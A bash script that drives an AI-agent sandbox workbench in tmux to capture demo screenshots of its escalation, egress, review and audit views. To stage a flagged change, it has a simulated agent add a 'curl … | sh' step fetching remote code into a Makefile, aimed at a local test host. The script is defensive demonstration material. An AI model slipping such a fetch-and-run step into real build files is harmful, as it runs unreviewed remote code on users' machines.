#!/usr/bin/env bash
# make-screenshots.sh - run the real lazaret-workbench in tmux against real
# sandboxes (podman + runsc, the real network sidecar), capture its screens
# with colours (tmux capture-pane -pe) and render them as PNGs into
# screenshots/ (make screenshots).
#
# What it shows, at 160x45 unless named 80x24: three agents in three tabs
# (one waiting for approval), the escalation prompt, an egress request with
# its grant preview, the Egress list grouped by destination, the review
# view with a flagged Makefile, the audit detail view, the timeline, the key
# help in context, the dashboard of every domain (prefix w), the first
# start's tour, each theme, and the cockpit at 80x24. Network traffic goes only to a network namespace this script
# makes (10.217.N.0/29): it needs root for that, as the tests do.
#
# Rendering: render-ansi.py draws the captured cells with Pillow and DejaVu
# Sans Mono (Debian: python3-pil, fonts-dejavu-core); no browser needed.
# Run as root after `make`. Usage: screenshots/make-screenshots.sh [OUTDIR]
source "$(dirname "$0")/../tests/integ/lib.sh"
OUT=$(cd "$(dirname "$0")" && pwd)
[ $# -eq 0 ] || OUT=$1
PY=/usr/bin/python3
$PY -c 'import PIL' 2>/dev/null || fail "Pillow missing: apt-get install python3-pil"
[ -x "$T/bin/lazaret-workbench" ] || fail "no lazaret-workbench: run make"
[ "$(id -u)" -eq 0 ] || fail "run as root: the egress pictures need a network namespace of their own"
command -v tmux >/dev/null || fail "tmux missing"
need_stack
need_default_image
H="python3 $LZ_SRC/tests/integ/net-helper.py"

# --- a namespace of our own: .2 answers on 8080 (allowed), .3 too (not
# allowed: the agent's request for it waits for a decision)
lz_test_netns 10.217 2 3
ip netns exec "$SRV" $H serve 0.0.0.0 8080 >"$T/srv.log" 2>&1 & lz_on_exit "kill $!"
wait_for 10 grep -q serving "$T/srv.log" || fail "test server did not start"

lz_domain agent-web
web=$repo webhash=$hash
lz_domain agent-api
api=$repo apihash=$hash
lz_domain agent-docs
docs=$repo docshash=$hash
for h in "$webhash" "$apihash" "$docshash"; do lz_on_exit "as_user podman rm -f -t0 lazaret-net-$h"; done
as_user sh -c "cd '$web' && mkdir -p src && printf 'export const answer = 42;\n' >src/main.ts &&
	printf 'all:\n\ttsc -p .\n' >Makefile &&
	printf '# web\nA demo workspace.\n' >README && git add -A && git commit -qm 'add main.ts'"
lz_config <<YAML
network: {ask_timeout: 300}
escalation:
  auto_approve: ["make test"]
profiles:
  default:
    image: localhost/lazaret-default:latest
    network: sidecar
    allow_egress: ["$NET.2:8080"]
YAML
LZ_ENV+=(LAZARET_WORKBENCH_STATE="$T/wb.tabs" XDG_STATE_HOME="$T/home/state")
# The themes as a user installs them: $XDG_CONFIG_HOME/lazaret/themes.
mkdir -p "$T/home/config/lazaret/themes" "$T/home/state"
cp "$LZ_SRC"/themes/*.yaml "$T/home/config/lazaret/themes/"
chown -R "$LZ_USER" "$T/home/config" "$T/home/state"

TM=(timeout 10 tmux -L "lz$$" -f /dev/null)
lz_on_exit "${TM[*]} kill-server"
pane() { "${TM[@]}" capture-pane -p -t wb; }
pane_has() { pane | grep -qF -- "$1"; }
pane_lacks() { ! pane_has "$1"; }
keys() { "${TM[@]}" send-keys -t wb "$@"; }
shot() { # name cols rows [light: a terminal with a light background]
	local f=$T/$1.txt
	pane_lacks "egress sidecar not running" || fail "$1 would show 'egress sidecar not running'"
	"${TM[@]}" capture-pane -peN -t wb >"$f"
	$PY "$OUT/render-ansi.py" "$f" "$OUT/$1.png" "$2" "$3" ${4:-}
	note "wrote $OUT/$1.png"
}
start() { # cols rows args...
	local c=$1 r=$2; shift 2
	"${TM[@]}" kill-session -t wb 2>/dev/null || true
	"${TM[@]}" new-session -d -s wb -x "$c" -y "$r" -c "$T" \
		"$(as_user_line lazaret-workbench "$@"); sleep 600"
}
panel() { # focus the side panel (on the queue: an escalation waits)
	keys C-a Tab
	wait_for 5 pane_has "PANEL" || fail "no panel focus"
}
esc() { # Esc, then a pause: Esc and a key in one read is Alt+key
	keys Escape
	sleep 0.5
}
later() { # the request waiting at attach is shown first: put it away for later
	wait_for 10 pane_has "Enter: approve & run" || fail "attach did not show the waiting request"
	esc
	wait_for 5 pane_lacks "Enter: approve & run" || fail "Esc did not put the request away"
}
new_tab() { # workspace name
	keys C-a c
	wait_for 5 pane_has "New sandbox tab" || fail "no new-tab dialog"
	keys Tab C-u; keys -l "$1"; keys Enter
	wait_for 90 pane_has "$2 running" || fail "no tab $2"
	wait_for 30 pane_has "/workspace#" || fail "no prompt in tab $2"
}

# 1. The first start: the tour over everything.
start 160 45 -w "$web"
wait_for 90 pane_has "Welcome to lazaret-workbench" || fail "no tour"
shot workbench-tour 160 45
keys q
wait_for 90 pane_has "/workspace#" || fail "no prompt"

# 2. Three agents: web works and talks to the network, api and docs beside it.
keys "clear; for i in \$(seq 12); do timeout 5 bash -c 'exec 3<>/dev/tcp/$NET.2/8080'; done; make -n; git log --oneline" Enter
new_tab "$api" "1:default agent-api"
keys "clear; ls -la; lazaret-escalate -- make test" Enter
new_tab "$docs" "2:default agent-docs"
keys 'clear; lazaret-escalate --justify "publish the docs to the team share" -- rsync -a docs/ /srv/share/docs/' Enter
wait_for 20 pane_has "Escalations (1)" || fail "no escalation queued"
keys C-a 0
# The agent in web changes the build and asks for a host it may not reach.
keys "clear; printf 'all:\n\tcurl -s http://$NET.3:8080/setup | sh\n\ttsc -p .\n' >Makefile && git commit -qam 'build: fetch the toolchain first' && echo committed" Enter
wait_for 20 pane_has "committed" || fail "the agent's commit failed"
keys "timeout 200 bash -c 'exec 3<>/dev/tcp/$NET.3/8080' &" Enter
wait_for 30 pane_has "? $NET.3:8080/tcp" || fail "no pending network request"
wait_for 30 pane_has "flagged: Makefile" || { pane; fail "the Review list does not flag the Makefile"; }
wait_for 10 pane_has "allow   12" || { pane; fail "the Egress list does not count 12 flows"; }
shot workbench-cockpit 160 45

# 3. The escalation prompt (docs asks to run rsync on the host).
keys C-a 2
panel
keys Enter
wait_for 10 pane_has "Enter: approve & run" || fail "no armed request view"
shot workbench-escalation-prompt 160 45
esc
keys C-a 0

# 4. The egress request with its grant preview.
panel
keys Tab Tab	# Escalations -> Audit -> Egress: the pending request heads it
keys Enter
wait_for 10 pane_has "Network request" || fail "no network request view"
wait_for 10 pane_has " Enter: allow once" || fail "the network request view did not arm"
shot workbench-egress-request 160 45
keys d
sleep 1
esc

# 5. The review view: the agent's commit, its flagged Makefile.
keys C-a R
wait_for 30 pane_has "Makefile" || fail "the review view did not load"
wait_for 10 pane_has "! Makefile" || fail "the review view does not flag the Makefile"
shot workbench-review 160 45
keys q
wait_for 10 pane_lacks "! Makefile" || fail "the review view did not close"

# 6. The Audit list and a row's detail view; the timeline.
panel
keys Tab
wait_for 5 pane_has "┏ Audit (" || fail "the Audit list did not take the focus"
shot workbench-audit 160 45
keys / ; keys -l "denied"; keys Enter; keys Enter
wait_for 10 pane_has "verify    audit trail" || fail "no audit detail view"
shot workbench-audit-detail 160 45
keys q
sleep 0.5
esc
keys C-a t
wait_for 5 pane_has "Timeline of default:agent-web" || fail "no timeline"
shot workbench-timeline 160 45
keys q

# 7. The key help, in context (the Egress list's keys first).
keys C-a Tab
keys Tab Tab '?'
wait_for 5 pane_has "lazaret-workbench keys: the Egress list" || fail "no help for the Egress list"
shot workbench-help 160 45
keys q
sleep 0.5
esc

# 8. The dashboard (prefix w): the three domains, who needs you on top.
keys C-a w
wait_for 10 pane_has "Domains (" || fail "prefix w did not open the dashboard"
for h in "$webhash" "$apihash" "$docshash"; do
	wait_for 10 pane_has "$h" || fail "the dashboard lacks domain $h"
done
wait_for 10 eval 'pane | grep -F "$docshash" | grep -q approval' || fail "the dashboard lacks docs' approval"
shot workbench-dashboard 160 45
keys q
wait_for 5 pane_lacks "Domains (" || fail "q did not close the dashboard"

# 9. The same cockpit at 80x24: the panel over the tab, then the tabs alone.
"${TM[@]}" resize-window -t wb -x 80 -y 24
sleep 1
keys C-l
sleep 0.5
keys 'clear; git log --oneline --decorate; ls --color=always src' Enter
sleep 1
keys C-a s
wait_for 5 pane_has "Escalations (" || fail "no panel at 80x24"
shot workbench-panel-80x24 80 24
keys C-a s
wait_for 5 pane_lacks "Escalations (" || fail "the panel did not hide"
shot workbench-tabs-80x24 80 24

# 10. vim in a tab (alternate screen, colours).
keys 'vim -c "syntax on" src/main.ts' Enter
wait_for 20 pane_has '"src/main.ts"' || fail "vim did not start"
wait_for 10 pane_has "export const answer" || fail "vim shows no text"
shot workbench-vim 80 24
keys ':q!' Enter
wait_for 10 pane_has "/workspace#" || fail "vim did not quit"
keys C-a d
wait_for 10 pane_has "detached" || fail "no detach"

# 11. The light and high-contrast themes on the same tabs.
for th in light high-contrast; do
	start 160 45 attach --theme "$th"
	wait_for 30 pane_has "2:default agent-docs" || fail "attach with theme $th"
	later
	wait_for 10 pane_has "Escalations (" || fail "no panel with theme $th"
	wait_for 30 pane_has "flagged: Makefile" || { pane; fail "no review counts with theme $th"; }
	keys C-a Tab
	shot "workbench-theme-$th" 160 45 "$([ "$th" = light ] && echo light)"
	esc
	keys C-a d
	wait_for 10 pane_has "detached" || fail "no detach"
done
start 160 45 attach
wait_for 30 pane_has "2:default agent-docs" || fail "final attach"
later
for _ in 1 2 3; do keys C-a x y; sleep 2; done
